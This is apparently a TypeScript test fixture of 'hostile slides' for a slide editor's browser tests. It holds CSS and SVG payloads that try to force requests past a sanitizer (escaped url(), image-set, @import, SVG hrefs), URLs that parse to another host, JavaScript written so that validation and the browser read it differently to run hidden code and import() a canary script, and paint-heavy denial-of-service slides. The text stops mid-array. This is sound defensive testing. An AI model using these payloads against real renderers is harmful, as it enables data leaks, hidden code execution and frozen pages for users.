/**
 * Hostile slides, by the class of attack each belongs to (issue 31): the
 * browser tests render them in the editor and the sites, and the slide
 * checks' engine-equality test renders them through each engine. Each
 * class is an array of its own, so a new class is a new export.
 *
 * Each class says in its own section how its text names the servers a
 * test starts. A slide's `tsx` and the strings of its `content` may hold `CANARY` (the
 * origin of a server nothing may ever reach, `http://127.0.0.1:<port>`)
 * and `CANARY_HOST` (its `host:port`); `addressed()` fills them in.
 */

/** What a hostile slide must come to, whatever it tries. Nothing it names beyond what its class allows is ever requested. */
export type HostileExpectation =
  /** It renders; the elements with these ids are still shown (what was harmless stays). */
  | { renders: true; keeps?: string[] }
  /** It fails with this message (shown over its content rendering). */
  | { fails: RegExp }

/** What every hostile slide is: its class (the export holding it), its name and its three files. */
export interface HostileSlideBase {
  name: string
  /** The class of attack (the export it belongs to). */
  class: string
  tsx: string
  content?: unknown
  controls?: unknown
}

/** A slide of the classes that are rendered and watched for what they make the browser load. */
export interface HostileSlide extends HostileSlideBase {
  expect: HostileExpectation
  /**
   * Paths (with query) of the emulator's own that the slide may make the browser
   * request: images its content names. Any other request to the emulator's
   * origin, beyond the page's own and the renderer's documents, is a leak. The
   * first is loaded wherever the slide shows on a stage: the tests wait for it.
   */
  loads?: string[]
}

/** The slide with the canary's address filled in: in its code, in every string of its files and in what it may load. */
export function addressed(slide: HostileSlide, canary: string): HostileSlide {
  const host = new URL(canary).host
  const fill = (text: string) => text.replaceAll('CANARY_HOST', host).replaceAll('CANARY', canary)
  const deep = (value: unknown): unknown =>
    typeof value === 'string'
      ? fill(value)
      : Array.isArray(value)
        ? value.map(deep)
        : typeof value === 'object' && value !== null
          ? Object.fromEntries(Object.entries(value).map(([key, item]) => [key, deep(item)]))
          : value
  return {
    ...slide,
    tsx: fill(slide.tsx),
    ...(slide.content === undefined ? {} : { content: deep(slide.content) }),
    ...(slide.controls === undefined ? {} : { controls: deep(slide.controls) }),
    ...(slide.loads === undefined ? {} : { loads: slide.loads.map(fill) }),
  }
}

/* ------------------------------------------------------------------------------------------------
 * CSS and SVG that would make the viewer's browser load a URL: a `url()` or an image function in a
 * style attribute, a <style> element, a custom property (var() chains, fallbacks), an SVG
 * presentation attribute or an href, written with escapes, comments, entities and odd cases.
 * Every URL is a `/v1` one (a request would land in the journal as a 401) or the canary's, each
 * tagged with its variant; a control image the content names (`?control=…`) must still load, and
 * `#ok` keeps its colour.
 * ---------------------------------------------------------------------------------------------- */

/** A component that shows its content's stylesheet, styled boxes (React style objects) and SVG shapes (attributes as props). */
const STYLED = `import content from "./slide.content.json";
export default function Styled() {
  const c = content as any;
  return (
    <section className="slide">
      <style>{c.css}</style>
      <h1 id="title">{c.title}</h1>
      {(c.boxes ?? []).map((b: any) => <div key={b.id} id={b.id} className={b.className} style={b.style}>{b.id}</div>)}
      <svg width="300" height="40">{(c.shapes ?? []).map((s: any) => <rect key={s.id} id={s.id} width="10" height="10" {...s.attrs} />)}</svg>
      <p id="ok" className="ok" style={{ color: "rgb(4, 5, 6)" }}>harmless</p>
      <div id="control" className="control">control</div>
    </section>
  );
}
`

/** A component that writes its content's markup as it is (as any component can, with dangerouslySetInnerHTML). */
const RAW = `import content from "./slide.content.json";
export default function Raw() {
  const c = content as any;
  return (
    <section className="slide">
      <h1 id="title">{c.title}</h1>
      <div id="raw" dangerouslySetInnerHTML={{ __html: c.markup }} />
      <p id="ok" style={{ color: "rgb(4, 5, 6)" }}>harmless</p>
    </section>
  );
}
`

const control = (tag: string) => `/_emulator/assets/favicon.svg?control=${tag}`
/** The control's rule: an allowed image (the content names it), which must still load. */
const controlCss = (tag: string) => `.control { background-image: url(${control(tag)}); width: 8px; height: 8px }`
const CLASS = 'css-and-svg-urls'

export const CSS_AND_SVG_URLS: HostileSlide[] = [
  {
    name: 'custom properties holding an escaped url()',
    class: CLASS,
    tsx: STYLED,
    content: {
      title: 'Custom properties',
      images: [control('custom')],
      css: [
        String.raw`.a { --q: u\72l(/v1/projects?leak=css-custom-escaped); background-image: var(--q) }`,
        String.raw`.b { --r: var(--s); --s: var(--t, url(/v1/projects?leak=css-var-fallback)); background-image: var(--r) }`,
        String.raw`.c { --u: URL(CANARY/css-custom-upper); cursor: var(--u), auto }`,
        String.raw`.d { --v: \75 \72 \6c(/v1/projects?leak=css-custom-hex-name); border-image: var(--v) 30 }`,
        controlCss('custom'),
      ].join('\n'),
      boxes: [
        { id: 'a', className: 'a' },
        { id: 'b', className: 'b' },
        { id: 'c', className: 'c' },
        { id: 'd', className: 'd' },
        { id: 'style-escaped', style: { '--q': String.raw`u\72l(/v1/projects?leak=style-custom-escaped)`, backgroundImage: 'var(--q)' } },
        {
          id: 'style-chain',
          style: { '--a': 'var(--b)', '--b': 'var(--c, url(/v1/projects?leak=style-var-fallback))', backgroundImage: 'var(--a)' },
        },
        { id: 'style-canary', style: { '--l': String.raw`u\rl(CANARY/style-custom)`, maskImage: 'var(--l)' } },
      ],
    },
    expect: { renders: true, keeps: ['a', 'style-escaped', 'ok', 'control'] },
    loads: [control('custom')],
  },
  {
    name: 'image functions: var() and attr() strings, escaped names, -webkit-image-set, cross-fade, image, element, paint',
    class: CLASS,
    tsx: STYLED,
    content: {
      title: 'Image functions',
      images: [control('image-functions')],
      css: [
        String.raw`.a { --s: "/v1/projects?leak=image-set-var"; background-image: image-set(var(--s) 1x) }`,
        String.raw`.b { background-image: im\61ge-set("/v1/projects?leak=image-set-escaped-name" 1x) }`,
        String.raw`.c { background-image: -webkit-image-set("/v1/projects?leak=webkit-image-set" 1x) }`,
        String.raw`.d { background-image: cross-fade(url(/v1/projects?leak=cross-fade) 50%, linear-gradient(red, blue)) }`,
        String.raw`.e { background-image: element(#title), paint(leak, "/v1/projects?leak=paint") }`,
        String.raw`.f { background-image: image("/v1/projects?leak=image-function") }`,
        String.raw`.g { --t: "CANARY/webkit-image-set-var"; background-image: -webkit-image-set(var(--t) 1x) }`,
        String.raw`.h { background-image: image-set("/v1/projects?leak=image-set-type" type("image/png")) }`,
        String.raw`.i { content: image-set("CANARY/content-image-set" 1x) }`,
        String.raw`.j { background-image: IMAGE-SET("/v\31/projects?leak=image-set-upper-hex" 1x) }`,
        controlCss('image-functions'),
      ].join('\n'),
      boxes: [
        ...['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j'].map((id) => ({ id, className: id })),
        { id: 'style-image-set', style: { '--s': '"/v1/projects?leak=style-image-set-var"', backgroundImage: 'image-set(var(--s) 1x)' } },
        { id: 'style-escaped-name', style: { backgroundImage: String.raw`-webkit-im\61ge-set("CANARY/style-escaped-name" 1x)` } },
      ],
    },
    expect: { renders: true, keeps: ['a', 'ok', 'control'] },
    loads: [control('image-functions')],
  },
  {
    name: 'escapes, newlines, comments and case in url()',
    class: CLASS,
    tsx: STYLED,
    content: {
      title: 'url() written oddly',
      images: [control('escapes')],
      css: [
        String.raw`.a { background: url(/v\31/projects?leak=hex-in-url) }`,
        `.b { background: url("/v\\\n1/projects?leak=newline-in-string") }`,
        String.raw`.c { background: URL(/v1/projects?leak=upper-case) }`,
        String.raw`.d { background: u/**/rl(/v1/projects?leak=comment-in-name) }`,
        String.raw`.e { background: \75 rl(/v1/projects?leak=hex-name) }`,
        String.raw`.f { border-image: url('/v1/projects?leak=border\'image') 30 }`,
        String.raw`.g { list-style: u\rl(/v1/projects?leak=ident-escape) inside }`,
        String.raw`.h { mask: url(/v1\/projects?leak=escaped-slash) }`,
        String.raw`.i { background: url(  "CANARY/spaces"  ) }`,
        String.raw`.j { background: url(/v1/projects?leak=tab	in-url) }`,
        String.raw`.k { shape-outside: url(/v1/projects?leak=shape-outside) }`,
        String.raw`.l { cursor: url(/v1/projects?leak=cursor), auto }`,
        `.m { background: url(/v1\\\n/projects?leak=newline-unquoted) }`,
        controlCss('escapes'),
      ].join('\n'),
      boxes: ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j', 'k', 'l', 'm'].map((id) => ({ id, className: id })),
    },
    expect: { renders: true, keeps: ['a', 'ok', 'control'] },
    loads: [control('escapes')],
  },
  {
    name: 'a <style> element’s at-rules: @import, @font-face, @property, @keyframes, @page, groups and nesting',
    class: CLASS,
    tsx: STYLED,
    content: {
      title: 'At-rules',
      images: [control('at-rules')],
      css: [
        String.raw`@import url(/v1/projects?leak=import);`,
        String.raw`@import "CANARY/import-string";`,
        String.raw`@font-face { font-family: leak; src: url(/v1/projects?leak=font-face) format("woff2") }`,
        String.raw`@property --img { syntax: "<image>"; inherits: false; initial-value: url(/v1/projects?leak=property) }`,
        String.raw`.a { font-family: leak; background-image: var(--img) }`,
        String.raw`@media (min-width: 1px) { .b { background: url(/v1/projects?leak=media) } }`,
        String.raw`@supports (display: grid) { .c { background: url(CANARY/supports) } }`,
        String.raw`.d { & .e, & { background: url(/v1/projects?leak=nested) } }`,
        String.raw`@layer l { .f { cursor: url(/v1/projects?leak=layer), auto } }`,
        String.raw`@container (min-width: 1px) { .g { background: url(/v1/projects?leak=container) } }`,
        String.raw`@keyframes k { from { background-image: url(/v1/projects?leak=keyframes) } to { color: red } }`,
        String.raw`.h { animation: k 1s infinite }`,
        String.raw`@page { background: url(/v1/projects?leak=page) }`,
        String.raw`@counter-style c { system: cyclic; symbols: url(/v1/projects?leak=counter-style); }`,
        String.raw`@scope (.i) { :scope { background: url(/v1/projects?leak=scope) } }`,
        controlCss('at-rules'),
        String.raw`.ok { font-weight: 700 }`,
      ].join('\n'),
      boxes: ['a', 'b', 'c', 'd', 'f', 'g', 'h', 'i'].map((id) => ({ id, className: id })),
    },
    expect: { renders: true, keeps: ['a', 'ok', 'control'] },
    loads: [control('at-rules')],
  },
  {
    name: 'SVG presentation attributes: fill, stroke, mask, clip-path, filter, marker-start/mid/end',
    class: CLASS,
    tsx: STYLED,
    content: {
      title: 'SVG attributes',
      images: [control('svg-attributes')],
      css: controlCss('svg-attributes'),
      shapes: [
        { id: 'fill', attrs: { fill: 'url(/v1/projects?leak=fill#p)' } },
        { id: 'stroke', attrs: { stroke: 'url(/v1/projects?leak=stroke#p)' } },
        { id: 'mask', attrs: { mask: 'url(/v1/projects?leak=mask#m)' } },
        { id: 'clip-path', attrs: { clipPath: 'url(/v1/projects?leak=clip-path#c)' } },
        { id: 'filter', attrs: { filter: 'url(/v1/projects?leak=filter#f)' } },
        {
          id: 'markers',
          attrs: {
            markerStart: 'url(/v1/projects?leak=marker-start#m)',
            markerMid: 'url(/v1/projects?leak=marker-mid#m)',
            markerEnd: 'url(/v1/projects?leak=marker-end#m)',
          },
        },
        { id: 'escaped', attrs: { fill: String.raw`U\52L(/v1/projects?leak=fill-escaped#p)` } },
        { id: 'canary', attrs: { stroke: "url('CANARY/stroke#p')" } },
        { id: 'style-attr', attrs: { style: { fill: 'url(/v1/projects?leak=svg-style-attr#p)' } } },
        { id: 'kept', attrs: { fill: 'url(#nowhere)', stroke: 'red' } },
      ],
    },
    expect: { renders: true, keeps: ['fill', 'kept', 'ok', 'control'] },
    loads: [control('svg-attributes')],
  },
  {
    name: 'markup as written: SVG hrefs, entities, a <style> in SVG, data-* read by attr(), every URL attribute',
    class: CLASS,
    tsx: RAW,
    content: {
      title: 'Markup',
      images: [control('markup-href'), control('markup-srcset')],
      markup: [
        '<svg width="200" height="40" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">',
        '<style>rect.s { fill: url(/v1/projects?leak=svg-style-element#p) } rect.t { stroke: u\\72l(CANARY/svg-style-escaped#p) }</style>',
        '<defs><linearGradient id="grad"><stop offset="0" stop-color="red"/></linearGradient><symbol id="sym"><rect width="2" height="2"/></symbol></defs>',
        '<rect class="s t" width="10" height="10"/>',
        '<rect width="10" height="10" fill="u&#x72;l(/v1/projects?leak=entity-in-attribute#p)"/>',
        '<rect width="10" height="10" style="fill: u&#114;l(/v1/projects?leak=entity-in-style#p)"/>',
        '<rect id="kept" width="10" height="10" fill="url(#grad)"/>',
        '<use href="/v1/projects?leak=use#a"/>',
        '<use xlink:href="/v1/projects?leak=use-xlink#a"/>',
        '<use id="kept-use" href="#sym"/>',
        '<image href="/v1/projects?leak=svg-image" width="5" height="5"/>',
        '<image xlink:href="CANARY/svg-image-xlink" width="5" height="5"/>',
        `<image id="control-image" href="${control('markup-href')}" width="5" height="5"/>`,
        '<filter id="fi"><feImage href="/v1/projects?leak=feimage"/></filter><rect width="4" height="4" filter="url(#fi)"/>',
        '<pattern id="pa" href="/v1/projects?leak=pattern#x" width="2" height="2"/><rect width="4" height="4" fill="url(#pa)"/>',
        '<linearGradient id="lg" href="/v1/projects?leak=gradient#g"/>',
        '<a href="/v1/projects?leak=svg-link"><text y="20">link</text></a>',
        '<path id="tp" d="M0 30 H100"/><text><textPath href="/v1/projects?leak=textpath#p">x</textPath></text>',
        '</svg>',
        '<div id="data-url" data-src="url(/v1/projects?leak=data-attribute)" style="background-image: attr(data-src type(<url>))">d</div>',
        '<div data-s=\'"/v1/projects?leak=attr-string"\' style="background-image: image-set(attr(data-s) 1x)">e</div>',
        '<div style="background-image: u&#114;l(/v1/projects?leak=entity-style-attribute)">f</div>',
        '<img src="/v1/projects?leak=img" alt=""><img src="\\\\CANARY_HOST/backslash-host.png" alt="">',
        `<img id="control-srcset" alt="" srcset="${control('markup-srcset')} 1x, /v1/projects?leak=srcset,comma 2x">`,
        '<img alt="" srcset="/v1/projects?leak=srcset-only 1x">',
        '<video poster="/v1/projects?leak=poster"></video><input type="image" src="/v1/projects?leak=input-image" alt="">',
        '<table background="/v1/projects?leak=table-background"><tr><td>t</td></tr></table>',
      ].join(''),
    },
    expect: { renders: true, keeps: ['kept', 'control-image', 'ok'] },
    loads: [control('markup-href')],
  },
]

/* ------------------------------------------------------------------------------------------------
 * Image URLs that start like a path of the emulator's own but name another host once the browser's
 * URL parser reads them (`\` is `/` in an http(s) URL, tabs and newlines are dropped): each names the
 * canary's host, in the content (the content view and the component's <img>) and in the component's
 * CSS. None may load, even with --allow-remote-images; `/%5C…` is a path of the emulator's own.
 * ---------------------------------------------------------------------------------------------- */

/** Each URL as an <img> and as a CSS string (its backslashes, quotes, tabs and newlines escaped, so CSS reads the same URL). */
const PATHS = String.raw`import content from "./slide.content.json";
const cssString = (url: string) => '"' + url.replace(/[\\"]/g, (c) => "\\" + c).replace(/\n/g, "\\a ").replace(/\t/g, "\\9 ") + '"';
export default function Paths() {
  const urls: string[] = (content as any).blocks.map((b: any) => b.url);
  return (
    <section className="slide">
      {urls.map((url, i) => <img key={i} id={"img" + i} src={url} alt="" />)}
      {urls.map((url, i) => <div key={"css" + i} id={"css" + i} style={{ backgroundImage: "url(" + cssString(url) + ")", width: 4, height: 4 }} />)}
      <p id="ok" style={{ color: "rgb(4, 5, 6)" }}>paths</p>
    </section>
  );
}
`

export const PATH_LOOKING_HOSTS: HostileSlide[] = [
  {
    name: 'image paths that name another host: /\\host, \\\\host, tabs and newlines inside, //host',
    class: 'path-looking-hosts',
    tsx: PATHS,
    content: {
      title: 'Paths',
      blocks: [
        { type: 'image', url: '/\\CANARY_HOST/backslash.png', alt: 'backslash' },
        { type: 'image', url: '\\\\CANARY_HOST/two-backslashes.png', alt: 'two backslashes' },
        { type: 'image', url: '/\t/CANARY_HOST/tab.png', alt: 'tab' },
        { type: 'image', url: '/\n/CANARY_HOST/newline.png', alt: 'newline' },
        { type: 'image', url: '//CANARY_HOST/scheme-relative.png', alt: 'scheme-relative' },
        { type: 'image', url: ' /\\CANARY_HOST/leading-space.png', alt: 'leading space' },
        { type: 'image', url: '/%5CCANARY_HOST/encoded.png', alt: 'encoded backslash' },
      ],
    },
    expect: { renders: true, keeps: ['ok', 'img6'] },
    // `/%5C<host>/encoded.png` is a path of the emulator's own (a 404), named by the content.
    loads: ['/%5CCANARY_HOST/encoded.png'],
  },
]

/* ------------------------------------------------------------------------------------------------
 * Code the server reads one way and the browser another (break 5): what `PUT` answers, and what a
 * page shows of such a slide stored anyway. Its text names `CANARY` and `ORIGIN` (`hostileText`).
 */

/** What a slide of `CLASSIC_READING` must come to. */
export interface ReadingExpectation {
  /** What `PUT` validation answers: `refused` (400 `VALIDATION_ERROR`) or `accepted`. */
  put: 'refused' | 'accepted'
  /** The refusal's hint (`slide.tsx:line:column: message`) matches this. */
  hint?: RegExp
  /** Stored anyway (a state import, `--fixtures`) and shown: the component fails with this message, or renders this text. */
  render: { fails: RegExp } | { shows: RegExp }
  /** Text that must never show anywhere on a page: what the slide's hostile code would put there if it ran. */
  never?: RegExp
}

export interface ReadingHostileSlide extends HostileSlideBase {
  expect: ReadingExpectation
}

/** `text` with `CANARY` and `ORIGIN` replaced by the given origins. */
export function hostileText(text: string, origins: { canary: string; origin: string }): string {
  return text.replaceAll('CANARY', origins.canary).replaceAll('ORIGIN', origins.origin)
}

/* ------------------------------------------------------------------------------------------------ */

const MARKER = /HIDDEN-RAN/

/** The slide's default export: shows `label`, which the hidden line would set to the marker. */
const SHOW_LABEL = 'export default function Hidden() {\n  return <section className="slide"><h1>{label}</h1></section>;\n}\n'

const refusedAt = (line: number, column: number, token: '<!--' | '-->') => {
  const at = `slide\\.tsx:${line}:${column}`
  const message = token === '<!--' ? '`<!--` would start a comment' : '`-->` would start a comment'
  return {
    put: 'refused' as const,
    hint: new RegExp(`^${at}: ${message.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`),
    render: { fails: new RegExp(`${message.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}[\\s\\S]*${at}`) },
    never: MARKER,
  }
}

/**
 * Break 5 of issue 31, "code the server reads as a comment runs in the
 * browser": HTML-like comments (`<!--`, and `-->` at a line's start) are
 * comments in a classic script (how a worker loads a slide) and code in a
 * module (how validation reads `slide.tsx`). A `<!--` the module reads as
 * `< !--` makes the rest of its line a comment in the browser, so a block
 * comment it seems to open never opens there, and the lines the module
 * reading hides run. The harmless places (`-->` in JSX text, either in a
 * string, template, regular expression or comment, a hashbang) render.
 */
export const CLASSIC_READING: ReadingHostileSlide[] = [
  {
    name: 'a block comment the module reading opens after `<!--` hides a line the browser runs',
    class: 'classic-reading',
    tsx: `let label = "module reading";\nlabel = label <!--label /*\nlabel = "HIDDEN-RAN";\n--> */\n${SHOW_LABEL}`,
    expect: refusedAt(2, 15, '<!--'),
  },
  {
    name: 'an import() hidden the same way',
    class: 'classic-reading',
    tsx: `let label = "module reading";\nlabel = label <!--label /*\nimport("CANARY/hidden.js").then(() => {}, () => {}); label = "HIDDEN-RAN";\n--> */\n${SHOW_LABEL}`,
    expect: refusedAt(2, 15, '<!--'),
  },
  {
    name: 'lines ended by U+2028 (a line separator to JavaScript, not to most editors)',
    class: 'classic-reading',
    tsx: `let label = "module reading";\nlabel = label <!--label /*\u2028label = "HIDDEN-RAN";\u2028--> */\n${SHOW_LABEL}`,
    expect: refusedAt(2, 15, '<!--'),
  },
  {
    name: 'lines ended by U+2029 and a lone \\r',
    class: 'classic-reading',
    tsx: `let label = "module reading";\nlabel = label <!--label /*\u2029label = "HIDDEN-RAN";\r--> */\n${SHOW_LABEL}`,
    expect: refusedAt(2, 15, '<!--'),
  },
  {
    name: '`<!--` after a block comment on the same line',
    class: 'classic-reading',
    tsx: `let label = "module reading";\nlabel = label /* note */ <!--label /*\nlabel = "HIDDEN-RAN";\n--> */\n${SHOW_LABEL}`,
    expect: refusedAt(2, 26, '<!--'),
  },
  {
    name: '`<!--` at the start of a line, continuing the expression above',
    class: 'classic-reading',
    tsx: `let label = "module reading";\nlabel = label\n<!--label /*\nlabel = "HIDDEN-RAN";\n--> */\n${SHOW_LABEL}`,
    expect: refusedAt(3, 1, '<!--'),
  },
  {
    name: '`<!--` inside the component’s body',
    class: 'classic-reading',
    tsx: 'export default function Hidden() {\n  let label = "module reading";\n  label = label <!--label /*\n  label = "HIDDEN-RAN";\n  --> */\n  return <section className="slide"><h1>{label}</h1></section>;\n}\n',
    expect: refusedAt(3, 17, '<!--'),
  },
  {
    name: '`<!--` inside a JSX expression',
    class: 'classic-reading',
    tsx: 'let label = "module reading";\nexport default function Hidden() {\n  return <section className="slide"><h1>{label <!--label /*\n  }{label = "HIDDEN-RAN"}{\n  --> */\n  }</h1></section>;\n}\n',
    expect: refusedAt(3, 48, '<!--'),
  },
  {
    name: '`-->` at the start of a line after a block comment (a syntax error to a module)',
    class: 'classic-reading',
    tsx: `let label = "module reading";\n/* a\n*/ --> label = "HIDDEN-RAN";\n${SHOW_LABEL}`,
    expect: { put: 'refused', hint: /^slide\.tsx:3:\d+: /, render: { fails: /slide\.tsx:3:\d+/ }, never: MARKER },
  },
  {
    name: '`-->` in the middle of a line (`x-->0`), read alike but refused all the same',
    class: 'classic-reading',
    tsx: `let label = "module reading";\nlet n = 2;\nwhile (n-->0) label += "!";\n${SHOW_LABEL}`,
    expect: refusedAt(3, 9, '-->'),
  },
  {
    name: 'a hashbang that is not the first line (a syntax error)',
    class: 'classic-reading',
    tsx: `let label = "module reading";\n#!/usr/bin/env node <!--\n${SHOW_LABEL}`,
    expect: { put: 'refused', hint: /^slide\.tsx:2:1: /, render: { fails: /slide\.tsx:2:1/ }, never: MARKER },
  },
  {
    name: '`-->` in JSX text (it becomes a string)',
    class: 'classic-reading',
    tsx: 'export default function Arrow() {\n  return <section className="slide"><h1>a --&gt; b and c --> d</h1></section>;\n}\n',
    expect: { put: 'accepted', render: { shows: /a --> b and c --> d/ } },
  },
  {
    name: 'both in a string, a template, a regular expression, an attribute and comments',
    class: 'classic-reading',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template literal in slide source
    tsx: '// <!-- a line comment -->\n/* <!--\n--> */\nconst s = "<!--" + \'-->\';\nconst t = `<!--\n-->${s}`;\nconst r = /<!--|-->/;\nexport default function Quoted() {\n  return <section className="slide" title="<!-- -->"><h1>{s}|{t}|{String(r.test(t))}</h1></section>;\n}\n',
    expect: { put: 'accepted', render: { shows: /<!---->\|<!--\s--><!---->\|true/ } },
  },
  {
    name: 'a hashbang first line holding `<!--`',
    class: 'classic-reading',
    tsx: `#!/usr/bin/env slide <!--\nconst label = "after the hashbang";\n${SHOW_LABEL}`,
    expect: { put: 'accepted', render: { shows: /after the hashbang/ } },
  },
  {
    name: 'a hashbang ended by U+2028 (the next line is code to both readings)',
    class: 'classic-reading',
    tsx: `#!/usr/bin/env slide\u2028const label = "after the separator";\n${SHOW_LABEL}`,
    expect: { put: 'accepted', render: { shows: /after the separator/ } },
  },
]

/* ------------------------------------------------------------------------------------------------
 * Pictures that would stop the page painting: 300 elements a slide, animated every 50 ms, under
 * filters, big shadows, blend modes and gradients, each slide by another way in (a <style> rule,
 * an inline style with !important, a layer of the slide's own naming, pseudo-elements, transitions
 * started by @starting-style, SVG animation elements, SVG filters). The stage may animate; a
 * thumbnail and the overview must not (the page's frame rate with the overview open stays within
 * half of a light deck's), and each picture still shows the slide (`keeps`).
 * ---------------------------------------------------------------------------------------------- */

/** What a paint-heavy slide must come to: it renders, its pictures still show these ids, and they do not move. */
export interface PaintHeavySlide extends HostileSlideBase {
  expect: { renders: true; keeps: string[] }
}

/** A component drawing `count` boxes (class `cell`, each with its content's inline style) under its content's stylesheet, and its content's raw markup. */
const CELLS = `import content from "./slide.content.json";
export default function Cells() {
  const c = content as any;
  const cells = Array.from({ length: c.count ?? 300 }, (_, i) => i);
  return (
    <section className="slide">
      <style>{c.css}</style>
      <h1 id="title">{c.title}</h1>
      <div className="grid" style={{ display: "flex", flexWrap: "wrap", gap: "2px" }}>
        {cells.map((i) => <span key={i} className={"cell" + (i % 2 ? " odd" : "")} style={c.cellStyle}>{c.text ?? ""}</span>)}
      </div>
      {c.markup ? <div id="raw" dangerouslySetInnerHTML={{ __html: c.markup }} /> : null}
      <p id="still" style={{ color: "rgb(7, 8, 9)" }}>still here</p>
    </section>
  );
}
`
const PAINT = 'paint-heavy'
/** Costly paint on every cell: the blur and drop shadow, a big box shadow list and a conic gradient. */
const HEAVY_CELL =
  '.cell { display: inline-block; width: 34px; height: 34px; filter: blur(6px) drop-shadow(0 0 24px red); box-shadow: 0 0 60px 20px rgba(0,0,0,.5), 0 0 120px 40px blue, inset 0 0 40px red; background: conic-gradient(from 0deg, red, yellow, lime, aqua, blue, magenta, red) }'
const shadows = (n: number, unit: string) =>
  Array.from({ length: n }, (_, i) => `${i}px ${i}px ${i * 4}${unit} rgba(${i % 255},0,0,.3)`).join(', ')

export const PAINT_HEAVY: PaintHeavySlide[] = [
  {
    name: 'the issue’s slide: @keyframes every 50 ms, infinite, under blur() drop-shadow(), box shadows and conic gradients',
    class: PAINT,
    tsx: CELLS,
    content: {
      title: 'Keyframes',
      css: `${HEAVY_CELL}\n@keyframes pulse { 0% { transform: scale(1); opacity: 1 } 100% { transform: scale(1.3) rotate(20deg); opacity: .4 } }\n.cell { animation: pulse 50ms steps(2) infinite alternate }`,
    },
    expect: { renders: true, keeps: ['title', 'still'] },
  },
  {
    name: 'inline styles with !important: the animation longhands, a -webkit- alias and a transition',
    class: PAINT,
    tsx: CELLS,
    content: {
      title: 'Inline important',
      css: `${HEAVY_CELL}\n@keyframes hue { to { filter: hue-rotate(360deg) blur(12px); background-position: 40px 0 } }`,
      cellStyle: {
        animationName: 'hue !important',
        animationDuration: '50ms !important',
        animationIterationCount: 'infinite !important',
        WebkitAnimationDirection: 'alternate !important',
        transition: 'all 10s !important',
        filter: 'blur(8px) drop-shadow(0 0 30px lime) !important',
      },
    },
    expect: { renders: true, keeps: ['title', 'still'] },
  },
  {
    name: 'the slide’s own layers and ids with !important, fighting any override',
    class: PAINT,
    tsx: CELLS,
    content: {
      title: 'Layers',
      css: [
        '@layer a, b;',
        '@layer a { @keyframes spin { to { rotate: 360deg } } .cell, #title { animation: spin 50ms linear infinite !important; filter: blur(10px) !important } }',
        '@layer b { html body section .grid span.cell { box-shadow: 0 0 200px 100px red !important } }',
        ':root :is(#title, .cell, #still) { animation: spin 50ms linear infinite !important; will-change: transform, filter !important }',
        HEAVY_CELL,
      ].join('\n'),
    },
    expect: { renders: true, keeps: ['title', 'still'] },
  },
  {
    name: 'pseudo-elements animated: ::before, ::after and ::marker, with text-shadow lists',
    class: PAINT,
    tsx: CELLS,
    content: {
      title: 'Pseudo-elements',
      text: 'x',
      css: [
        HEAVY_CELL,
        '@keyframes grow { to { transform: scale(2); letter-spacing: 4px } }',
        `.cell::before, .cell::after { content: "ab"; display: inline-block; text-shadow: ${shadows(40, 'px')}; filter: blur(4px); animation: grow 50ms infinite alternate }`,
        '.cell { display: list-item } .cell::marker { content: "•"; animation: grow 50ms infinite }',
        `.cell::first-letter { text-shadow: ${shadows(30, 'px')} }`,
      ].join('\n'),
    },
    expect: { renders: true, keeps: ['title', 'still'] },
  },
  {
    name: 'transitions started at the first render (@starting-style), long and on every property, and :hover and :focus rules',
    class: PAINT,
    tsx: CELLS,
    content: {
      title: 'Transitions',
      css: [
        HEAVY_CELL,
        '.cell { transition: all 60s linear, filter 60s steps(1200); opacity: 1; transform: none }',
        '@starting-style { .cell { opacity: 0; transform: rotate(720deg) scale(3); filter: blur(40px) } }',
        '.cell:hover, .cell:focus, .cell:focus-within, .odd:not(:hover) { transform: scale(1.1); filter: blur(12px) drop-shadow(0 0 40px red) }',
      ].join('\n'),
    },
    expect: { renders: true, keeps: ['title', 'still'] },
  },
  {
    name: 'SVG animation elements (animate, animateTransform, animateMotion, set) under an SVG blur filter',
    class: PAINT,
    tsx: CELLS,
    content: {
      title: 'SVG animation',
      count: 100,
      css: HEAVY_CELL,
      markup:
        '<svg width="1200" height="200" viewBox="0 0 1200 200"><defs><filter id="f"><feGaussianBlur stdDeviation="12"/><feDropShadow dx="0" dy="0" stdDeviation="30" flood-color="red"/></filter></defs>' +
        Array.from(
          { length: 200 },
          (_, i) =>
            `<circle cx="${(i * 6) % 1200}" cy="100" r="40" fill="blue" filter="url(#f)"><animate attributeName="r" values="10;80;10" dur="0.05s" repeatCount="indefinite"/><animateTransform attributeName="transform" type="rotate" from="0 600 100" to="360 600 100" dur="0.1s" repeatCount="indefinite"/><animateMotion path="M0,0 L40,40" dur="0.05s" repeatCount="indefinite"/><set attributeName="fill" to="red" begin="0.05s"/></circle>`,
        ).join('') +
        '</svg>',
    },
    expect: { renders: true, keeps: ['title', 'still', 'raw'] },
  },
  {
    name: 'backdrop-filter, mix-blend-mode and will-change over animated repeating gradients',
    class: PAINT,
    tsx: CELLS,
    content: {
      title: 'Backdrops and blends',
      css: [
        '.grid { background: repeating-conic-gradient(red 0 1deg, blue 1deg 2deg), repeating-radial-gradient(circle, lime 0 1px, transparent 1px 3px); background-size: 37px 37px; animation: slide 50ms linear infinite }',
        '@keyframes slide { to { background-position: 37px 37px } }',
        '.cell { display: inline-block; width: 34px; height: 34px; backdrop-filter: blur(20px) saturate(3); -webkit-backdrop-filter: blur(20px); mix-blend-mode: difference; will-change: transform, filter, backdrop-filter; background: repeating-linear-gradient(45deg, red 0 1px, blue 1px 2px); animation: slide 50ms linear infinite }',
      ].join('\n'),
    },
    expect: { renders: true, keeps: ['title', 'still'] },
  },
  {
    name: 'animated custom properties (@property) driving gradients and shadows, via var() and the -webkit- filter alias',
    class: PAINT,
    tsx: CELLS,
    content: {
      title: 'Registered properties',
      css: [
        '@property --angle { syntax: "<angle>"; inherits: true; initial-value: 0deg }',
        '@property --spread { syntax: "<length>"; inherits: true; initial-value: 0px }',
        '@keyframes turn { to { --angle: 360deg; --spread: 80px } }',
        ':root { --go: turn 50ms linear infinite }',
        `.cell { display: inline-block; width: 34px; height: 34px; background: conic-gradient(from var(--angle), red, blue, red); box-shadow: 0 0 var(--spread) var(--spread) red, ${shadows(20, 'px')}; -webkit-filter: blur(6px) drop-shadow(0 0 var(--spread) blue); animation: var(--go) }`,
